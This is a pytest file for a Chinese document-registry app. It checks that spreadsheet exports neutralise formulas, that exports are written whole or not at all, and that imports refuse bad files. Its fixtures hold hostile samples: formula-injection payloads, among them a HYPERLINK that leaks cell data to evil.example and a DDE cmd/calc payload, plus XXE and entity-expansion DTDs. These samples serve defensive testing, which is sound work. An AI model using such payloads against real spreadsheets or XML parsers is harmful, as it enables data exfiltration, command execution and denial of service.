"""Exports that cannot attack a spreadsheet and come back unchanged, written whole or not at all; imports
that refuse bad files in one line (empty, header-less, oversized fields, DTD entities, implausible numbers
and dates) and change nothing when they do."""
from __future__ import annotations

import csv
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from desktop_app.domain.errors import InputError
from desktop_app.registry import Registry
from desktop_app.registry.exchange import CSV_COLUMNS, OUTGOING_COLUMNS
from tests.small_disk import DISKS, run_cli, small_disk

from .helpers import incoming_request, outgoing_request

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A9)",
            "'=已带撇号", "''两个撇号", "'普通撇号"]


@pytest.fixture
def hostile(registry):
    for title in FORMULAS:
        registry.register("outgoing", outgoing_request(title=title, drafter="=1+1", cc=["@县委办公室"]))
    registry.register("incoming", incoming_request(title="-关于防汛的请示", sender="=县水利局"))
    return registry


def _titles(registry) -> list[tuple]:
    return sorted((r["kind"], r["title"], (r["fields"].get("cc") or [""])[0], r["fields"].get("sender") or "")
                  for kind in ("outgoing", "incoming") for r in registry.search("", kind=kind, limit=100))


def test_xlsx_text_cells_are_strings_never_formulas(hostile, tmp_path):
    path = tmp_path / "out.xlsx"
    hostile.export(path)
    book = load_workbook(path)  # not read-only: every cell's data_type is known
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    titles = [row[OUTGOING_COLUMNS.index("标题")] for row in book["发文登记簿"].iter_rows(min_row=2, values_only=True)]
    assert titles == FORMULAS
    assert {c.data_type for c in book["发文登记簿"]["C"][1:]} == {"s"}


def test_csv_cells_that_could_start_a_formula_carry_owasps_apostrophe(hostile, tmp_path):
    path = tmp_path / "out.csv"
    hostile.export(path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for column, value in row.items():
            assert not value or value[0] not in "=+-@\t\r", (column, value)
    assert [r["标题"] for r in rows if r["类别"] == "发文"] == ["'" + t for t in FORMULAS[:6]] + FORMULAS[6:]
    assert rows[-1]["来文机关"] == "'=县水利局"


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_an_exported_file_imports_back_to_the_same_records(hostile, tmp_path, suffix):
    path = tmp_path / f"登记簿{suffix}"
    hostile.export(path)
    with Registry.open(tmp_path / "other.sqlite") as other:
        assert other.import_file(path)["imported"] == len(FORMULAS) + 1
        assert _titles(other) == _titles(hostile)


@pytest.mark.sqlite_only
@pytest.mark.parametrize("how", DISKS)
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_full_disk_leaves_no_truncated_export_and_one_stderr_line(registry, tmp_path, suffix, how):
    registry.demo(1500)
    registry.backup()  # today's backup exists: the export is the only thing that writes
    registry.close()
    disk = tmp_path / "usb"
    with small_disk(how, disk, 64 * 1024, tmp_path / "home") as run:
        (disk / f"登记簿{suffix}").write_bytes(b"previous export")
        result = run(["--db", str(tmp_path / "docroute.sqlite"), "export", "-o", str(disk / f"登记簿{suffix}")])
        assert result.returncode == 2, (how, result.stderr)
        assert result.stdout == "" and result.stderr.count("\n") == 1, (how, result.stderr)
        assert "Traceback" not in result.stderr and "Exception ignored" not in result.stderr
        assert "磁盘空间不足" in result.stderr
        assert [p.name for p in disk.iterdir()] == [f"登记簿{suffix}"]  # no temporary file left behind
        assert (disk / f"登记簿{suffix}").read_bytes() == b"previous export"


def _csv(path, header, *rows):
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        if header:
            writer.writerow(header)
        writer.writerows(rows)
    return path


def _outgoing_row(**cells):
    row = {"类别": "发文", "标题": "关于防汛的通知", "拟稿日期": "2026-11-01", "印发份数": "40"}
    row.update(cells)
    return [row.get(c, "") for c in CSV_COLUMNS]


@pytest.mark.parametrize("column, value", [
    ("印发份数", "1e30"), ("印发份数", "inf"), ("印发份数", "1" + "0" * 20), ("印发份数", "9" * 5000), ("印发份数", "40.5"),
    ("印发份数", "-1"), ("拟稿日期", "20261201"), ("拟稿日期", "2026-W48-2"), ("拟稿日期", "2019-05-01 garbage"),
    ("拟稿日期", "1900-01-01"), ("标题", "防汛\x00工作"), ("标题", "长" * 301), ("文号", "托政发〔1900〕1号"),
])
def test_an_implausible_cell_refuses_the_whole_import_naming_row_and_column(registry, tmp_path, column, value):
    path = _csv(tmp_path / "in.csv", CSV_COLUMNS, _outgoing_row(), _outgoing_row(**{column: value}))
    with pytest.raises(InputError) as caught:
        registry.import_file(path)
    line = caught.value.one_line()
    assert "第 3 行" in line and column in line and "\n" not in line
    assert registry.count("") == 0


def test_excel_numbers_and_dates_are_read_as_the_clerk_typed_them(registry, tmp_path):
    from datetime import datetime

    book = Workbook()
    sheet = book.active
    sheet.title = "发文登记簿"
    sheet.append(OUTGOING_COLUMNS)
    row = dict.fromkeys(OUTGOING_COLUMNS)
    row.update({"标题": "关于防汛的通知", "印发份数": 40.0, "拟稿日期": datetime(2026, 11, 1)})
    sheet.append([row[c] for c in OUTGOING_COLUMNS])
    book.save(tmp_path / "in.xlsx")
    assert registry.import_file(tmp_path / "in.xlsx")["imported"] == 1
    record = registry.get(registry.search_ids("")[0])
    assert record["date"] == "2026-11-01" and record["fields"].get("copies", 40) == 40


@pytest.mark.parametrize("content, message", [
    ("", "是空的"), ("发文,1,,关于防汛的通知\n", "不是登记簿的表头"), (",".join(CSV_COLUMNS) + "\n", "没有可导入的记录"),
])
def test_an_empty_or_headerless_csv_is_refused(registry, tmp_path, content, message):
    path = tmp_path / "in.csv"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError, match=message):
        registry.import_file(path)


def test_a_csv_field_over_the_csv_limit_is_one_clear_line(registry, tmp_path):
    path = _csv(tmp_path / "in.csv", CSV_COLUMNS, _outgoing_row(备注="备" * 140_000))
    with pytest.raises(InputError) as caught:
        registry.import_file(path)
    assert "131,072" in caught.value.one_line()


def _xlsx_with(tmp_path, prolog: str, cell: str):
    """A real workbook whose sheet XML was edited by hand to carry a DTD."""
    plain = tmp_path / "plain.xlsx"
    book = Workbook()
    book.active.title = "发文登记簿"
    book.active.append(["类别", "标题", "拟稿日期"])
    book.active.append(["发文", "PLACEHOLDER", "2026-11-01"])
    book.save(plain)
    out = tmp_path / "dtd.xlsx"
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                text = data.decode().replace("<worksheet", prolog + "<worksheet", 1).replace("PLACEHOLDER", cell)
                data = text.encode()
            target.writestr(name, data)
    return out


@pytest.mark.parametrize("prolog, cell", [
    ('<!DOCTYPE worksheet [<!ENTITY a "防汛">]>', "&a;"),
    ('<!-- <a> --><?pi x?><!DOCTYPE worksheet [<!ENTITY e "lol"><!ENTITY a "&e;&e;&e;&e;&e;&e;&e;&e;">]>', "&a;"),
    ('<!DOCTYPE worksheet [<!ENTITY a SYSTEM "file:///etc/hostname">]>', "&a;"),
])
def test_an_xlsx_with_a_dtd_is_refused_before_any_entity_is_expanded(registry, tmp_path, prolog, cell):
    path = _xlsx_with(tmp_path, prolog, cell)
    with pytest.raises(InputError, match="DTD"):
        registry.import_file(path)
    assert registry.count("") == 0


def test_a_damaged_xlsx_is_one_clear_line(registry, tmp_path):
    path = _xlsx_with(tmp_path, "", "<broken")
    with pytest.raises(InputError, match="无法读取 Excel"):
        registry.import_file(path)


def test_a_refused_import_through_the_cli_is_exit_2_with_one_line(registry, tmp_path):
    registry.close()
    path = _csv(tmp_path / "in.csv", CSV_COLUMNS, _outgoing_row(印发份数="inf"))
    result = run_cli(["--db", str(tmp_path / "docroute.sqlite"), "import", str(path)], tmp_path / "home")
    assert result.returncode == 2 and result.stdout == "" and result.stderr.count("\n") == 1
